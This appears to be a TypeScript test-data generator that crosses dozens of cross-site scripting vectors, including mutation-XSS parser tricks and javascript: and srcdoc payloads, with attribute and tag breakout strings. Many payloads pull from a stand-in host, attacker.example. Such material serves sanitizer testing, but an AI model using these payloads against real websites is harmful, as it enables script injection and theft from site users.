// Malicious HTML: ways to run a script × contexts to break out of. Each payload calls `attack` or fetches something from
// the attacker's host.

/** Ways to run a script or fetch something. CODE stands for the script, URL for the attacker's address. */
const vectors = [
  ...['<script>CODE</script>', '<script src="URL"></script>', '<script/src=URL>', '<script>CODE'],
  ...['<img src=x onerror=CODE>', '<img src="x" onerror="CODE">', '<img srcset="URL 1x" src=x onerror=CODE>'],
  '<svg onload=CODE>',
  '<svg><a><animate attributeName=href values="javascript:CODE" /><text y=20>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  ...['<iframe src="javascript:CODE"></iframe>', '<iframe src="URL"></iframe>'],
  '<object data="javascript:CODE">',
  ...['<a href="javascript:CODE">a</a>', '<a href="data:text/html,<script>CODE</script>">a</a>'],
  ...['<a href="vbscript:CODE">a</a>', '<a href="//URL" onclick=CODE target=_top ping="URL">a</a>'],
  ...['<form action="javascript:CODE"><button>b</button></form>', '<math href="javascript:CODE">m</math>'],
  ...['<meta http-equiv="refresh" content="0;url=URL">', '<base href="URL">'],
  '<link rel=stylesheet href="URL">',
  ...['<style>@import "URL";</style>', '<p style="background:url(URL)">p', '<embed src="URL">'],
  '<p id=x tabindex=0 onfocus=CODE style="animation:x 1s" onanimationstart=CODE>p',
  '<template shadowrootmode=open><img src=x onerror=CODE></template>',
  // Text that becomes markup only when parsed a second time.
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>',
  '<textarea><img title="</textarea><img src=x onerror=CODE>"></textarea>',
  '<title><img title="</title><img src=x onerror=CODE>"></title>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=CODE>">',
  ...['<!--><img src=x onerror=CODE>-->', '<![CDATA[<img src=x onerror=CODE>]]>', '";CODE//', '`;CODE//'],
  ...['\x24{CODE}', '{{constructor.constructor("CODE")()}}', '\\u003cscript\\u003eCODE\\u003c/script\\u003e'],
];

/** Strings that break out of attributes, titles, scripts, comments or data. */
const contexts = [
  ...['', '">', "'>", ' ', '--><!--x-->', '</title>', '</textarea>', '</script>', '</style>', ']]>'],
  ...['</p></div>', '\\">', '</noscript>', '</template>', '</svg>', '</math>', '`>', '"}]</script>'],
  ...['\u2028', '\u202e', "$'", '$&'],
];

const code = 'attack()';
const url = 'https://attacker.example/';
const filledIn = (text: string) => text.replaceAll('CODE', () => code).replaceAll('URL', () => url);

/** Every vector in eight of the contexts, in rotation. */
const payloads = vectors.flatMap((vector, row) =>
  Array.from({ length: 8 }, (_, turn) => contexts[(row + turn) % contexts.length] + filledIn(vector)),
);

/** Closes whatever a payload leaves open, so that the next one is parsed as markup again. */
const closing = `"'>--></script></style></textarea></title></xmp></noscript></template></svg></math></option></select>]]>`;

/** Payloads short enough for any field. */
const short = [
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  ...['"', "'", '', '-->', '</title>', '</script>', '</style>', '</textarea>', '</noscript>'].map(
    (context) => `${context}><img src=x onerror=attack()>`,
  ),
];

/** All payloads, joined into texts of at most 19,000 characters. Each begins with a short one, for short fields. */
export const markup: string[] = [];
for (const payload of payloads) {
  const more = (markup.at(-1) ?? '') + closing + payload;
  if (markup.length > 0 && more.length <= 19_000) markup[markup.length - 1] = more;
  else markup.push(short[markup.length % short.length] + closing + payload);
}
